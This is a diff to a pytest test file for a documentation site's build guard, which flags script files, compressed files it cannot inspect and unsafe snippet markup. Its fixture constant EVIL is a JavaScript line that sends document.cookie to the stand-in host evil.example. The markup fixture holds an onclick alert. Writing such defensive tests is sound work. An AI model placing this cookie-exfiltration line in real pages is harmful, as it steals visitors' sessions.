@@ -56,6 +56,8 @@ UNPUBLISHABLE = {os.fsdecode(b"caf\xe9.md"): "docs/caf\\xe9.md",
                  "bell\x07folder/page.md": "docs/bell\\u0007folder"}
 EVIL = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
 SCRIPTS = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
+# Compressed files: the guard cannot read inside, and some hosts serve page.html.gz as page.html.
+COMPRESSED = ["assets/form.html.gz", "assets/pic.svg.BR", "guide/index.html.zst"]
 SNIPPET = "docs/.snippets/abbreviations.md"
 SNIPPET_MARKUP = '\n<img src="https://evil.example/x.png" alt="x">\n\n<b onclick="alert(1)">z</b>\n'
 
@@ -69,7 +71,7 @@ def shared(tmp_path_factory) -> dict:
     for name in NAMED_LIKE_FILES:
         (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
         (project / "docs" / name).write_text(PAGE, encoding="utf-8")
-    for name in SCRIPTS:
+    for name in SCRIPTS + COMPRESSED:
         (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
         (project / "docs" / name).write_text(EVIL, encoding="utf-8")
     snippet = project / SNIPPET
@@ -85,7 +87,7 @@ def shared(tmp_path_factory) -> dict:
         (project / "docs" / name).write_text(PAGE, encoding="utf-8")
     checked, built = _problems(project, root / "site")
     # Every case taken out: what the failed build staged must not reach the next build's site.
-    for name in NAMED_LIKE_FILES + SCRIPTS:
+    for name in NAMED_LIKE_FILES + SCRIPTS + COMPRESSED:
         (project / "docs" / name).unlink()
     (project / "docs/sitemap.xml").rmdir()
     for name in UNPUBLISHABLE:
@@ -106,10 +108,13 @@ def test_the_shared_cases_are_every_problem_of_their_run(shared):
     domain, nothing else."""
     checked = shared["checked"]
     assert [str(problem) for problem in checked] == [str(problem) for problem in shared["built"]]
-    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml", "docs/CNAME"} | \
-        set(UNPUBLISHABLE.values())
+    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS + COMPRESSED} | \
+        {SNIPPET, "clinic.yml", "docs/CNAME"} | set(UNPUBLISHABLE.values())
     assert {problem.path for problem in checked} == cases, checked
-    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1 + 1 + len(UNPUBLISHABLE), checked
+    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + len(COMPRESSED) + 2 + 1 + 1 + len(UNPUBLISHABLE), \
+        checked
+    assert {problem.path for problem in checked if "is a compressed file" in problem.what} == \
+        {f"docs/{name}" for name in COMPRESSED}
 
 
 @pytest.mark.build
